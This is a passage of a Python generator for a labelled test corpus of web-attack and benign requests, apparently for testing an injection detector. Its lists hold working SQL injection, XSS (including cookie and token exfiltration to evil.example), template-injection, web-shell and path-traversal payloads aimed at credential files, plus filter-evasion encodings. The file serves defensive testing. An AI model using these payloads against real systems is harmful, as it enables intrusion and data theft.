#!/usr/bin/env python3
"""Deterministic generator for the QuantumVault injection-detector corpus.

Writes, next to this file:
  attacks.jsonl  labelled attack requests (sqli, xss, traversal, cmdi, crlf)
  benign.jsonl   benign requests that naive WAF rules tend to flag

Python 3 standard library only.  Fixed seed: rerunning produces byte-identical files.
After writing, the files are read back and checked (parse, unique ids, minimum counts,
wire validity, no attack payload verbatim inside a benign request); a failed check
exits non-zero.  Counts are printed and the counts section of README.md is refreshed.

Layout of this file:
  1. wire helpers and evasion transforms
  2. attack payload lists, one block per class (base payloads, hand-written evasions,
     already-encoded wire forms, and which bases get which systematic transforms)
  3. attack placement (where in the request a payload goes)
  4. benign value lists and benign placement
  5. assembly, output, checks

To add a case: append to the right list below and rerun
    python3 tests/corpus/generate.py
"""

import base64
import collections
import html
import json
import os
import random
import re
import string
import sys
import unicodedata
import urllib.parse
import uuid

SEED = 20240917
HERE = os.path.dirname(os.path.abspath(__file__))

CLASSES = ("sqli", "xss", "traversal", "cmdi", "crlf")
LOCATIONS = ("query", "query_name", "path", "json", "form", "multipart",
             "header", "user_agent", "referer", "cookie")
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE")
MINIMUMS = {"sqli": 100, "xss": 100, "traversal": 100, "cmdi": 100, "crlf": 40}
MIN_ATTACKS = 600
MIN_BENIGN = 1200
# How many attack requests to produce per class (each case is placed at least once,
# then cases are placed again in other locations until the target is reached).
TARGETS = {"sqli": 210, "xss": 200, "traversal": 165, "cmdi": 160, "crlf": 72}

# ---------------------------------------------------------------------------
# 1. Wire helpers and transforms
# ---------------------------------------------------------------------------

UNRESERVED = set(string.ascii_letters + string.digits + "-._~")
SUB_DELIMS = set("!$&'()*+,;=")
PATH_CHARS = UNRESERVED | SUB_DELIMS | set(":@/%")
QUERY_CHARS = PATH_CHARS | set("?")
COOKIE_BAD = set(' ;,"\\')


def pct(s, safe=""):
    """Percent-encode (UTF-8) everything except unreserved and `safe`."""
    return urllib.parse.quote(s, safe=safe)


def pct_plus(s):
    """Browser form style: spaces as '+'."""
    return urllib.parse.quote_plus(s, safe="")


def header_safe(s):
    """A header value we can send as-is: printable ASCII or HTAB, no CR/LF/NUL."""
    return all(c == "\t" or 0x20 <= ord(c) < 0x7F for c in s) and s == s.strip()


def cookie_value(s):
    """Encode a cookie value the way apps do (encodeURIComponent-ish, keep cookie-octets)."""
    return pct(s, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")


def enc_all(s, _rng=None):
    """Percent-encode every byte, letters included."""
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def enc_std(s, _rng=None):
    return pct(s)


def enc_double(s, _rng=None):
    return pct(pct(s))


def enc_triple(s, _rng=None):
    return pct(pct(pct(s)))


def enc_lowerhex(s, _rng=None):
    return re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), pct(s))


def ws_raw(alt, keep="'()*,=!-"):
    """Replace spaces by `alt` (a raw wire token); encode the rest, keeping `keep` raw."""
    def f(s, _rng=None):
        return "".join(alt if c == " " else pct(c, safe=keep) for c in s)
    return f


def sep_raw(old, new):
    """Replace a shell separator by a raw encoded one, encode the rest."""
    def f(s, _rng=None):
        return new.join(pct(part, safe="'()*,=!-/") for part in s.split(old))
    return f


def mixcase(s, rng):
    out = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)
    if out == s:  # make sure something changed
        out = s.swapcase()
    return out


def comments_for_spaces(s, _rng=None):
    return s.replace(" ", "/**/")


def ifs_for_spaces(s, _rng=None):
    return s.strip().replace(" ", "${IFS}")


def fullwidth(s, only=None):
    """Map ASCII to full-width forms (U+FF01..U+FF5E); space to U+3000 when only is None."""
    out = []
    for c in s:
        if only is not None and c not in only:
            out.append(c)
        elif c == " ":
            out.append("\u3000")
        elif 0x21 <= ord(c) <= 0x7E:
            out.append(chr(ord(c) + 0xFEE0))
        else:
            out.append(c)
    return "".join(out)


def fw_all(s, _rng=None):
    return fullwidth(s)


def fw_brackets(s, _rng=None):
    return fullwidth(s, only="<>")


def fw_dots_slashes(s, _rng=None):
    return fullwidth(s, only="./\\")


def fw_punct(s, _rng=None):
    return fullwidth(s, only=";|&`$()'=<>")


def html_named(s, _rng=None):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;").replace("'", "&#39;"))


def html_dec(s, _rng=None):
    return "".join("&#%d;" % ord(c) if c in "<>\"'()=:/" else c for c in s)


def html_hex(s, _rng=None):
    return "".join("&#x%x;" % ord(c) if c in "<>\"'()=:/" else c for c in s)


def null_after_lt(s, _rng=None):
    return pct(s, safe="").replace("%3C", "%3C%00", 1)


def caret_split(s, _rng=None):
    """cmd.exe ignores '^' between letters: who^am^i."""
    return re.sub(r"([a-z])(?=[a-z])", lambda m: m.group(1) + ("^" if m.start() % 2 else ""), s)


def identity(s, _rng=None):
    return s


def full_decode(s):
    """Repeatedly percent-decode (for the verbatim check of raw cases)."""
    for _ in range(4):
        d = urllib.parse.unquote(s, errors="replace")
        if d == s:
            break
        s = d
    return s


class Case:
    """One attack payload before placement.

    text  -- the payload: a decoded value (raw=False, encoded per location on placement)
             or an already wire-encoded string (raw=True, inserted verbatim).
    base  -- the decoded payload (for the verbatim-in-benign check).
    locs  -- restrict placement to these locations (None: any compatible one).
    jesc  -- characters to write as \\uXXXX escapes in a JSON body (implies json only).
    """

    __slots__ = ("cls", "text", "note", "raw", "locs", "jesc", "base")

    def __init__(self, cls, text, note, raw=False, locs=None, jesc="", base=None):
        self.cls, self.text, self.note, self.raw = cls, text, note, raw
        self.locs, self.jesc = locs, jesc
        self.base = base if base is not None else (full_decode(text) if raw else text)


# ---------------------------------------------------------------------------
# 2. Attack payloads
# ---------------------------------------------------------------------------
# Each class: GROUPS (note, [plain payloads]), EVASIONS [(plain payload, note)],
# RAW [(wire-encoded payload, note)], TRANSFORMS [(note, fn, kind, [source payloads])]
# where kind is "raw" (fn returns wire form) or "plain" (fn returns a decoded value)
# or "json" (plain value, written with \\u escapes in a JSON body).

# ----- SQL injection -------------------------------------------------------
SQLI_GROUPS = [
    ("tautology", [
        "' OR '1'='1", "' OR '1'='1' --", "' OR 1=1--", "1 or 1=1--", "1 OR 1=1",
        '" OR ""="', "') OR ('1'='1", "1) OR (1=1", "' OR 'a'='a", "' OR 1=1 LIMIT 1--",
        "' OR TRUE--", "') or true--", "' OR 'x' LIKE 'x", "1' or '1'='1' /*", "' OR 2>1--",
        "x' OR 1=1 OR 'x'='y", "alice@example.com' OR '1'='1", "' or ''='", "1 OR 'abc'='abc'",
        "-1 OR 1=1#", "'||'1'='1",
    ]),
    ("auth bypass, comment truncation", [
        "admin'--", "admin' #", "admin'/*", "admin' or '1'='1'--", "' or 1=1 -- -",
        "admin')--", "administrator'-- -",
    ]),
    ("UNION SELECT", [
        "' UNION SELECT NULL,NULL,NULL--", "' UNION SELECT username, password FROM users--",
        "1 UNION ALL SELECT 1,@@version,3--",
        "-1 UNION SELECT 1,table_name,3 FROM information_schema.tables--",
        "' UNION SELECT column_name FROM information_schema.columns WHERE table_name='users'--",
        "0 UNION SELECT 1,group_concat(schema_name),3 FROM information_schema.schemata",
        "' UNION SELECT load_file('/etc/passwd')--",
        "-1' UNION SELECT 1,2,'<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'--",
        "' UNION SELECT sqlite_version()--", "' UNION SELECT name, sql FROM sqlite_master--",
        "1 UNION SELECT banner FROM v$version--", "-1'UNION(SELECT(1),(2),(3))--",
    ]),
    ("column enumeration ORDER BY", ["1' ORDER BY 3--", "1 ORDER BY 5--", "' ORDER BY 1,2,3,4--"]),
    ("stacked query", [
        "1; DROP TABLE users--", "'; DROP TABLE users; --", "1; DELETE FROM orders WHERE 1=1--",
        "'; INSERT INTO users (name, role) VALUES ('eve','admin');--",
        "'; UPDATE users SET role='admin' WHERE name='eve';--",
        "1; EXEC xp_cmdshell('whoami')--", "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
        "1; SHUTDOWN--", "'; TRUNCATE TABLE audit_log;--", "1;SELECT * FROM users",
        "'; CREATE USER eve IDENTIFIED BY 'x';--", "1'; COPY (SELECT '') TO PROGRAM 'id'--",
    ]),
    ("time-based blind", [
        "' AND SLEEP(5)--", "1 AND SLEEP(5)", "' OR IF(1=1,SLEEP(5),0)--", "1' OR sleep(5)#",
        '" or sleep(5)="', "1; SELECT pg_sleep(5)--", "' || pg_sleep(5)--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))", "'; WAITFOR DELAY '0:0:5'--",
        "1); WAITFOR DELAY '00:00:05'--", "' AND BENCHMARK(5000000,MD5(1))--",
        "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
        "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)", "1 RLIKE SLEEP(5)",
    ]),
    ("error-based", [
        "' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
        "' AND updatexml(1,concat(0x7e,user()),1)--",
        "1 AND extractvalue(rand(),concat(0x3a,database()))",
        "1 AND 1=CONVERT(int,(SELECT @@version))--",
        "' AND 1=CAST((SELECT current_user) AS int)--",
        "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)a)--",
        "' AND 1=ctxsys.drithsx.sn(1,(SELECT user FROM dual))--",
        "1 AND exp(~(SELECT * FROM (SELECT user())x))",
        "' AND GTID_SUBSET(CONCAT(0x7e,(SELECT version())),1)--",
    ]),
    ("boolean-based blind", [
        "' AND 1=1--", "' AND 1=2--",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
        "1' AND '1'='1", "1 AND (SELECT 'x' FROM dual)='x'",
        "' AND EXISTS(SELECT * FROM users WHERE username='admin')--", "' HAVING 1=1--",
        "' GROUP BY id HAVING 1=1--", "1 AND LENGTH(database())>3", "'||(SELECT version())||'",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "' AND SUBSTR(@@version,1,1)='5", "' OR 1 IN (SELECT @@version)--",
    ]),
]

SQLI_EVASIONS = [
    ("' UN/**/ION SEL/**/ECT username,password FROM users--", "comment-split keywords UN/**/ION"),
    ("1/**/UNION/**/SELECT/**/1,2,3--", "inline comments as whitespace"),
    ("'/**/OR/**/'1'='1", "inline comments as whitespace"),
    ("'/*!50000UNION*/ /*!50000SELECT*/ 1,2,3--", "MySQL versioned comments /*!50000SELECT*/"),
    ("1 /*!50000SELECT*/ user()", "MySQL versioned comment"),
    ("' /*!OR*/ 1=1--", "MySQL executable comment"),
    ("1'/**/or/**/1=1#", "inline comments, hash comment"),
    ("1' /*!12345UNION*/ /*!12345SELECT*/ 1,2--", "MySQL versioned comments"),
    ("SEL/*x*/ECT password FR/*x*/OM users", "comment-split keywords"),
    ("' OR 'ad'||'min'='admin", "string concatenation"),
    ("' OR username=CHAR(97,100,109,105,110)--", "CHAR() obfuscation"),
    ("' OR username=0x61646d696e--", "hex literal"),
    ("1 UnIoN sElEcT 1,2,3--", "mixed case"),
    ("' oR '1'='1", "mixed case"),
    ("1 uNiOn/**/aLl/**/sElEcT null,null--", "mixed case + comments"),
    ("1\tOR\t1=1", "tab as whitespace"),
    ("1\nUNION\nSELECT\n1,2,3", "newline as whitespace"),
    ("'\u00a0OR\u00a0'1'='1", "NBSP as whitespace (NFKC)"),
    ("' OR 1=1\x00", "trailing null byte"),
    ("' OR 1=1;\x00--", "null byte before comment"),
    ("\uff07 \uff2f\uff32 \uff07\uff11\uff07\uff1d\uff07\uff11", "full-width tautology (NFKC)"),
    ("1\uff07 UNION SELECT 1,2--", "full-width apostrophe U+FF07"),
    ("' OR 1=1 %23", "literal %23 as comment after decoding"),
    ("'/*foo*/OR/*bar*/1/**/=/**/1--", "comments around operators"),
]

SQLI_RAW = [
    ("'%20UNION%23foo%0ASELECT%201,2--", "hash comment + newline split"),
    ("1%20oR%201%3D1--", "URL-encoded, mixed case"),
    ("%27%09OR%091%3D1%23", "encoded quote, %09 whitespace"),
    ("1%0bOR%0b1=1", "%0b vertical tab whitespace"),
    ("%2527%2520OR%25201%253D1--", "double URL-encoding"),
    ("%00'%20OR%20'1'='1", "null byte prefix"),
    ("1+UNION+ALL+SELECT+NULL,NULL--", "'+' as whitespace"),
    ("'+or+'1'%3D'1", "'+' as whitespace"),
    ("1;DROP+TABLE+users--", "stacked query, '+' whitespace"),
    ("'%3B%20WAITFOR%20DELAY%20'0:0:5'--", "encoded semicolon"),
    ("1%20AND%20SLEEP%285%29", "encoded parentheses"),
]

_SQ_SRC = ["' OR '1'='1", "1 or 1=1--", "admin'--", "' UNION SELECT username, password FROM users--",
           "1; DROP TABLE users--", "' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:5'--",
           "' AND updatexml(1,concat(0x7e,user()),1)--", "' OR 1=1--", "1 AND SLEEP(5)",
           "1 UNION ALL SELECT 1,@@version,3--", "' AND BENCHMARK(5000000,MD5(1))--",
           "1; SELECT pg_sleep(5)--", "' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
           "') OR ('1'='1", "'; DROP TABLE users; --"]

SQLI_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _SQ_SRC[0:5]),
    ("double URL-encoding", enc_double, "raw", _SQ_SRC[3:10]),
    ("triple URL-encoding", enc_triple, "raw", _SQ_SRC[8:10]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _SQ_SRC[10:13]),
    ("%09 tab as whitespace", ws_raw("%09"), "raw", _SQ_SRC[0:5]),
    ("%0a newline as whitespace", ws_raw("%0a"), "raw", _SQ_SRC[5:10]),
    ("%0c form feed as whitespace", ws_raw("%0c"), "raw", _SQ_SRC[10:12]),
    ("%0d%0a as whitespace", ws_raw("%0d%0a"), "raw", _SQ_SRC[12:14]),
    ("'+' as whitespace", ws_raw("+"), "raw", _SQ_SRC[8:14]),
    ("%a0 Latin-1 NBSP whitespace (invalid UTF-8)", ws_raw("%a0"), "raw", _SQ_SRC[0:1]),
    ("mixed case", mixcase, "plain", _SQ_SRC[2:9]),
    ("inline comments /**/ as whitespace", comments_for_spaces, "plain", _SQ_SRC[9:15]),
    ("full-width forms (NFKC)", fw_all, "plain", _SQ_SRC[0:3]),
    ("JSON \\u escaped quote", identity, "json", _SQ_SRC[0:4]),
]

# ----- XSS and template injection ------------------------------------------
XSS_GROUPS = [
    ("script tag", [
        "<script>alert(1)</script>", "<script>alert(document.cookie)</script>",
        "<script src=https://evil.example/x.js></script>", '"><script>alert(1)</script>',
        "'><script>alert(String.fromCharCode(88,83,83))</script>",
        "</title><script>alert(1)</script>", "</script><script>alert(1)</script>",
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
        "<script>document.location='https://evil.example/?'+document.cookie</script>",
        "<script>new Image().src='//evil.example/l?'+localStorage.token</script>",
    ]),
    ("event handler", [
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert('xss')\">",
        "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
        '<div onmouseover="alert(1)">hover</div>', '<video><source onerror="alert(1)">',
        "<audio src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
        '"><img src=x onerror=prompt(1)>', "<x onclick=alert(1)>click",
        "<isindex type=image src=1 onerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=confirm(1)>",
        "<keygen autofocus onfocus=alert(1)>", "<object onerror=alert(1)>",
    ]),
    ("SVG", [
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
        "<svg><set attributeName=onmouseover to=alert(1)>",
    ]),
    ("javascript: URL", [
        '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">click</a>',
        "javascript:alert(document.domain)", "JaVaScRiPt:alert(1)", "javascript:%61lert(1)",
        "<embed src=javascript:alert(1)>", '<form action="javascript:alert(1)"><input type=submit>',
        "<button formaction=javascript:alert(1)>x</button>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<body background="javascript:alert(1)">', "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        '<div style="background:url(javascript:alert(1))">', 'vbscript:msgbox("xss")',
        "javascript://comment%0aalert(1)",
    ]),
    ("data: URI", [
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        '<iframe src="data:text/html,<script>alert(1)</script>">',
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
        "DATA:text/html,<script>alert(1)</script>",
        "data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E",
        '<a href="data:text/html,<svg onload=alert(1)>">x</a>',
    ]),
    ("dangerous tag", [
        '<iframe srcdoc="<script>alert(1)</script>">', "<link rel=import href=https://evil.example/x.html>",
        '<base href="https://evil.example/">', "<embed src=https://evil.example/x.swf>",
        "<object data=https://evil.example/x.svg type=image/svg+xml></object>",
    ]),
    ("JS string breakout", ["';alert(1);//", '";alert(1);//', "'-alert(1)-'", "\\';alert(1);//"]),
    ("template injection (SSTI)", [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "${{7*7}}",
        "{{constructor.constructor('alert(1)')()}}", "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}", '<%= system("id") %>',
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "[[${7*7}]]", "@(1+2)", "{php}echo `id`;{/php}", "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    ]),
]

XSS_EVASIONS = [
    ("<ScRiPt>alert(1)</sCrIpT>", "mixed-case tag"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "nested tag against single-pass stripping"),
    ("<img src=x onerror=alert`1`>", "backtick call"),
    ("<img/src=x/onerror=alert(1)>", "slash separators"),
    ("<img\nsrc=x\nonerror=alert(1)>", "newlines inside tag"),
    ("<svg\tonload=alert(1)>", "tab inside tag"),
    ('<a href="java\tscript:alert(1)">x</a>', "tab inside javascript: scheme"),
    ('<a href="java\nscript:alert(1)">x</a>', "newline inside javascript: scheme"),
    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
     "decimal entities spell javascript:"),
    ('<a href="&#x6A;avascript:alert(1)">x</a>', "hex entity in javascript: scheme"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "entity-encoded tab in javascript: scheme"),
    ('<a href="javascript&colon;alert(1)">x</a>', "named entity &colon;"),
    ('<iframe src="jav&#x0A;ascript:alert(1)">', "entity-encoded newline in scheme"),
    ("java&#x09;script:alert(1)", "entity-encoded tab, bare URL"),
    ("&#106;avascript:alert(document.cookie)", "entity-encoded first letter, bare URL"),
    ("&#60;script&#62;alert(1)&#60;/script&#62;", "decimal HTML entities"),
    ("&lt;script&gt;alert(document.cookie)&lt;/script&gt;", "named HTML entities (double-decoding sink)"),
    ("&#x3c;img src=x onerror=alert(1)&#x3e;", "hex HTML entities"),
    ("&lt;svg onload=alert(1)&gt;", "named HTML entities"),
    ("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "full-width angle brackets (NFKC)"),
    ("\uff1cimg src=x onerror=alert(1)\uff1e", "full-width angle brackets (NFKC)"),
    (fullwidth("<svg onload=alert(1)>"), "fully full-width (NFKC)"),
    ("<svg onload=alert&lpar;1&rpar;>", "entity-encoded parentheses"),
    ("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "entities inside handler"),
    ('<img src=x onerror="&#x61;lert(1)">', "hex entity inside handler"),
    ("<scri\x00pt>alert(1)</scri\x00pt>", "null byte inside tag name"),
    ("<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "base64 via atob"),
    ("<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>", "fromCharCode"),
    ("<script>\\u0061lert(1)</script>", "JS unicode escape"),
    ("javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
     "polyglot"),
    ("<<script>alert(1)//<</script>", "double open bracket"),
    ('<img src="x" onerror   =   "alert(1)">', "spaces around ="),
    ("<img src=`x` onerror=alert(1)>", "backtick attribute quotes"),
    ("<sCrIpT/src=//evil.example/x.js></ScRiPt>", "mixed case, slash separator"),
    ("{{ 7 * 7 }}", "SSTI with spaces"),
    ("$\u007b7*7\u007d", "SSTI"),
    ("\uff5b\uff5b7*7\uff5d\uff5d", "full-width braces SSTI (NFKC)"),
]

XSS_RAW = [
    ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "URL-encoded"),
    ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", "double URL-encoding"),
    ("%3cimg%20src%3dx%20onerror%3dalert(1)%3e", "lowercase-hex URL-encoding"),
    ("%3Csvg%2Fonload%3Dalert(1)%3E", "URL-encoded"),
    ("%3C%00script%3Ealert(1)%3C/script%3E", "null byte after <"),
    ("java%09script:alert(1)", "encoded tab in scheme"),
    ("java%0ascript:alert(1)", "encoded newline in scheme"),
    ("%26%2360%3Bscript%26%2362%3Balert(1)%26%2360%3B/script%26%2362%3B", "URL-encoded HTML entities"),
    ("%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E", "URL-encoded full-width brackets"),
    ("%7B%7B7*7%7D%7D", "URL-encoded SSTI"),
    ("%24%7B7*7%7D", "URL-encoded SSTI"),
    ("%3C%25%3D%207*7%20%25%3E", "URL-encoded ERB SSTI"),
]

_XSS_SRC = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
            '<a href="javascript:alert(1)">click</a>', "<body onload=alert(1)>",
            '"><script>alert(1)</script>', "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<details open ontoggle=alert(1)>", "javascript:alert(document.domain)",
            "<input autofocus onfocus=alert(1)>", "<script>alert(document.cookie)</script>",
            "{{7*7}}", "${7*7}", "<svg/onload=alert(1)>"]

XSS_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _XSS_SRC[0:4]),
    ("double URL-encoding", enc_double, "raw", _XSS_SRC[2:8]),
    ("triple URL-encoding", enc_triple, "raw", _XSS_SRC[0:1]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _XSS_SRC[8:11]),
    ("null byte after <", null_after_lt, "raw", _XSS_SRC[4:6]),
    ("mixed case", mixcase, "plain", _XSS_SRC[3:10]),
    ("full-width angle brackets (NFKC)", fw_brackets, "plain", _XSS_SRC[5:9]),
    ("named HTML entities", html_named, "plain", _XSS_SRC[9:12]),
    ("decimal HTML entities", html_dec, "plain", _XSS_SRC[1:4]),
    ("hex HTML entities", html_hex, "plain", _XSS_SRC[6:8]),
    ("JSON \\u003c escapes", identity, "json", _XSS_SRC[0:6]),
]

# ----- Path traversal / file inclusion -------------------------------------
TRAV_GROUPS = [
    ("dot-dot-slash", [
        "../../../../etc/passwd", "../../../etc/shadow", "../../../../../../etc/hosts",
        "../../../../proc/self/environ", "../../../var/log/nginx/access.log",
        "../../../../../../../../../../etc/passwd", "images/../../../etc/passwd",
        "/var/www/../../etc/passwd", "../../../home/ubuntu/.ssh/id_rsa",
        "../../../../root/.bash_history", "../WEB-INF/web.xml", "../../.env",
        "../../../../home/ubuntu/.aws/credentials", "../../config/database.yml",
        "../../../../etc/passwd#", "../../../../etc/passwd?x=1",
    ]),
    ("dot-dot-backslash (Windows)", [
        "..\\..\\..\\..\\windows\\win.ini", "..\\..\\..\\boot.ini",
        "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", "..\\..\\inetpub\\wwwroot\\web.config",
        "..\\/..\\/..\\/etc/passwd",
    ]),
    ("filter bypass (stripped ../)", [
        "....//....//....//etc/passwd", "..././..././..././etc/passwd", "....\\\\....\\\\windows\\\\win.ini",
    ]),
    ("absolute system path", [
        "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/cmdline", "/proc/version",
        "/etc/hosts", "C:\\Windows\\win.ini", "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "C:/Windows/win.ini", "c:\\boot.ini", "/root/.ssh/authorized_keys", "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ]),
    ("file/wrapper URI", [
        "file:///etc/passwd", "file:///c:/windows/win.ini",
        "php://filter/convert.base64-encode/resource=../../config.php",
        "php://filter/resource=/etc/passwd", "jar:file:///tmp/x.jar!/", "file://localhost/etc/shadow",
    ]),
    ("null-byte extension truncation", [
        "../../../../etc/passwd\x00.png", "../../../etc/shadow\x00.jpg", "..\\..\\windows\\win.ini\x00.txt",
    ]),
]

TRAV_EVASIONS = [
    ("\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", "full-width dots and slashes (NFKC)"),
    ("\u2025/\u2025/\u2025/etc/passwd", "two-dot leader U+2025 (NFKC to '..')"),
    ("\uff0e\uff0e\uff3c\uff0e\uff0e\uff3cwindows\uff3cwin.ini", "full-width dots and backslashes (NFKC)"),
    ("..\\..\\..\\WiNdOwS\\wIn.InI", "mixed case (case-insensitive FS)"),
    ("C:\\WINDOWS\\WIN.INI", "upper case Windows path"),
    ("./../.././../etc/passwd", "interleaved ./"),
    ("..//..//..//etc//passwd", "doubled slashes"),
    ("/./././../../../etc/passwd", "leading ./ segments"),
]

TRAV_RAW = [
    ("..%2f..%2f..%2f..%2fetc%2fpasswd", "..%2f encoded slash"),
    ("..%2F..%2F..%2Fetc%2Fpasswd", "..%2F encoded slash (upper hex)"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%2e%2e%2f fully encoded"),
    ("%2e%2e/%2e%2e/%2e%2e/etc/passwd", "%2e%2e encoded dots"),
    ("%2E%2E%2F%2e%2e%2Fetc/shadow", "mixed-case hex"),
    ("..%252f..%252f..%252fetc%252fpasswd", "..%252f double encoding"),
    ("%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double encoding"),
    ("%25252e%25252e%25252fetc%25252fpasswd", "triple encoding"),
    ("..%5c..%5c..%5cwindows%5cwin.ini", "..%5c encoded backslash"),
    ("%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", "encoded dots and backslash"),
    ("..%255c..%255cwindows%255cwin.ini", "double-encoded backslash"),
    ("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "overlong UTF-8 slash %c0%af"),
    ("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "overlong UTF-8 dot %c0%ae"),
    ("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "overlong UTF-8 dot and slash"),
    ("%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd", "overlong 3-byte UTF-8 dot"),
    ("..%c1%9c..%c1%9cwindows%c1%9cwin.ini", "overlong UTF-8 backslash %c1%9c"),
    ("%f0%80%80%ae%f0%80%80%ae/etc/passwd", "overlong 4-byte UTF-8 dot"),
    ("..%c0%af..%c0%afproc%c0%afself%c0%afenviron", "overlong UTF-8 slash"),
    ("%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", "IIS %u encoding (non-standard)"),
    ("../../../../etc/passwd%00.png", "%00 extension truncation"),
    ("....%2f%2f....%2f%2fetc%2fpasswd", "encoded filter bypass"),
    ("..;/..;/..;/etc/passwd", "Tomcat ..;/ path parameter"),
    ("/..%2f..%2f..%2fetc/passwd", "leading slash, encoded"),
    ("..%2f..%2f..%2fproc%2fself%2fenviron", "..%2f to /proc"),
    ("..%2f..%2f..%2fwindows%2fwin.ini", "..%2f to win.ini"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2fvar%2flog%2fauth.log", "encoded, log file"),
    ("..%252f..%252f..%252f..%252fproc%252fself%252fcmdline", "double encoding"),
    ("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd%00", "encoded with trailing %00"),
    ("file%3A%2F%2F%2Fetc%2Fpasswd", "encoded file:// URI"),
    ("%2Fetc%2Fpasswd", "encoded absolute path"),
    ("C%3A%5CWindows%5Cwin.ini", "encoded Windows absolute path"),
]
TRAV_PATH_ONLY_RAW = [
    ("/..;/..;/etc/passwd", "Tomcat /..;/ normalisation bypass"),
    ("/static/../../../../etc/passwd", "raw ../ in request target (curl --path-as-is)"),
    ("/assets/..%2f..%2f..%2f..%2fetc/passwd", "encoded slash in path"),
    ("/download/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "%2e%2e segments in path"),
    ("/api/v1/files/..%5c..%5c..%5cwindows%5cwin.ini", "%5c backslash in path"),
    ("/images/%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double encoding in path"),
    ("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "overlong UTF-8 dot in path"),
    ("/public/..%c0%af..%c0%af..%c0%afetc/passwd", "overlong UTF-8 slash in path"),
]

_TR_SRC = ["../../../../etc/passwd", "../../../etc/shadow", "../../../../proc/self/environ",
